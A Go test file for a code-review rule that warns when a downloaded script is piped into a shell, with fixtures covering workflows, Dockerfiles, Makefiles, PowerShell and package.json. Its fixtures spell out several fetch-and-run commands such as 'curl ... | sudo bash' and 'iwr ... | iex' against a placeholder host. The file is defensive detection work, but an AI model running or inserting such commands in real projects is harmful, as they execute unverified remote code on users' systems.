package reviewer

import "testing"

func TestRemoteScripts(t *testing.T) {
	t.Parallel()
	const title = " A download is run by a shell"
	runRule(t, "remote-script", []ruleTest{
		{"pipe in a workflow", one(".github/workflows/a.yml", "      - run: curl -sSL https://x.example/i.sh | sudo bash"), []string{"warning .github/workflows/a.yml:10" + title}},
		{"pipe in an image", one("Dockerfile", "RUN wget -qO- https://x.example/i | sh -s -- -y"), []string{"warning Dockerfile:10" + title}},
		{"process substitution", one("setup.sh", "bash <(curl -s https://x.example/i)"), []string{"warning setup.sh:10" + title}},
		{"command substitution", one("Makefile", `	sh -c "$(curl -fsSL https://x.example/i)"`), []string{"warning Makefile:10" + title}},
		{"PowerShell", one("a.ps1", "iwr https://x.example/i.ps1 | iex"), []string{"warning a.ps1:10" + title}},
		{"manifest script", one("package.json", `    "setup": "curl https://x.example | sh",`), []string{"warning package.json:10" + title}},
		{"pipe into something else", one("a.sh", "curl https://x.example | jq . | tee out", "curl -o x https://x.example; sh ./build"), nil},
		{"comment", one("a.sh", "# curl https://x.example | sh"), nil},
		{"document", one("README.md", "curl https://x.example | sh"), nil},
	})
}
